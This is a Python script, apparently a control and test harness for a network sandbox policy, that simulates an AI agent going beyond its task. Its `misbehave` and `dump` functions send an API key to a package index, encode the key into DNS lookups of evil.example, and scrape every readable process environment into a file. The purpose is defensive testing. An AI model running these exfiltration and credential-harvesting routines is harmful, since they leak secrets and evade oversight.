"""The agent-like script with a network: one model call that its job needs, and what nobody asked it for.

`work` calls the model with the key of its environment and publishes. `misbehave` then uploads a file to the model's
provider, sends the key to the package index, looks up a stranger and spells the key out in a name. `dump` writes down
everything that its environment and its machine's processes let it see. Nothing it prints is believed: `network.py`
judges by what the servers heard.

Refuses nothing by itself. Where `DEMO_ROUTE` is set (the control run, without a sandbox), all names are there.
Example: ``capsule run --policy network.yaml -- python online.py work misbehave dump``
"""

from __future__ import annotations

import http.client
import json
import os
import socket
import ssl
import sys
from collections.abc import Callable
from pathlib import Path

from agent import attempt, tell

KEY = os.environ.get("ANTHROPIC_API_KEY", "")
MODELS, PACKAGES = "api.anthropic.com", "packages.example"


def post(host: str, path: str, content: object, **headers: str) -> tuple[int, str]:
    """One request over TLS, by any program's ordinary means; status and body."""
    context = ssl.create_default_context()
    connection = http.client.HTTPSConnection(host, context=context, timeout=40)
    route = os.environ.get("DEMO_ROUTE")
    if route:
        there, _, port = route.partition(":")
        plain = socket.create_connection((there, int(port)), timeout=40)
        connection.sock = context.wrap_socket(plain, server_hostname=host)
    headers = {"content-type": "application/json"} | {
        name.replace("_", "-"): value for name, value in headers.items()
    }
    try:
        connection.request("POST", path, json.dumps(content), headers)
        answer = connection.getresponse()
        return answer.status, answer.read().decode()
    finally:
        connection.close()


def answered(host: str, path: str, content: object, **headers: str) -> Callable[[], str]:
    """An action: the request, told by its status, and by its explanation when it was refused."""

    def action() -> str:
        status, body = post(host, path, content, **headers)
        if status != 403:
            return str(status)
        return "403\n" + "".join(f"           | {line}\n" for line in body.splitlines()).rstrip("\n")

    return action


def work() -> None:
    """Ask the model, do what it says."""
    tell(f"my key is {KEY[:24]}… ({len(KEY)} characters)")
    question = {
        "model": "claude-sonnet-4-5",
        "max_tokens": 1024,
        "stream": True,
        "messages": [{"role": "user", "content": "bytesify takes a list of integers for bytes. Mend it."}],
        "tools": [{"name": "publish", "input_schema": {"type": "object"}}],
    }

    def call_model() -> str:
        status, body = post(MODELS, "/v1/messages", question, x_api_key=KEY, anthropic_version="2023-06-01")
        events = [json.loads(line[6:]) for line in body.splitlines() if line.startswith("data: ")]
        text = "".join(event.get("delta", {}).get("text", "") for event in events)
        return f'{status}, "{text}"'

    attempt("call the model", call_model)
    attempt("publish h11 0.16.1", answered(PACKAGES, "/publish", {"name": "h11", "version": "0.16.1"}))


def misbehave() -> None:
    """What nobody asked for."""

    def look_up(name: str) -> Callable[[], str]:
        def action() -> str:
            port = os.environ.get("DEMO_DNS_ROUTE")
            if port is None:
                return str(socket.getaddrinfo(name, 443)[0][4][0])
            labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
                resolver.settimeout(3)
                resolver.connect(("127.0.0.1", int(port)))
                resolver.send(b"\x13\x37\x01\x00\x00\x01" + bytes(6) + labels + b"\0\0\x01\0\x01")
                resolver.recv(512)
            return "answered"

        return action

    source = Path("h11/_util.py").read_text()
    spelled = KEY.encode().hex()
    labels = ".".join(spelled[at : at + 60] for at in range(0, min(len(spelled), 180), 60))
    attempt("upload a file to the provider", answered(MODELS, "/v1/files", source, x_api_key=KEY))
    attempt("send the key to the package index", answered(PACKAGES, "/search", {"query": KEY}))
    attempt("look up evil.example", look_up("evil.example"))
    attempt("spell the key out in a name", look_up(f"{labels}.evil.example"))


def dump() -> None:
    """Everything that might hold the key, into a file: the environment, and every process's that can be read."""
    found = [f"{name}={value}".encode() for name, value in os.environ.items()]
    for process in Path("/proc").glob("[0-9]*/environ"):
        try:
            found.append(process.read_bytes())
        except OSError:
            continue  # not ours to read, or gone
    Path("environment.txt").write_bytes(b"\n".join(found))
    tell("wrote down every environment it can see")


if __name__ == "__main__":
    steps = {"work": work, "misbehave": misbehave, "dump": dump}
    for step in sys.argv[1:]:
        steps[step]()
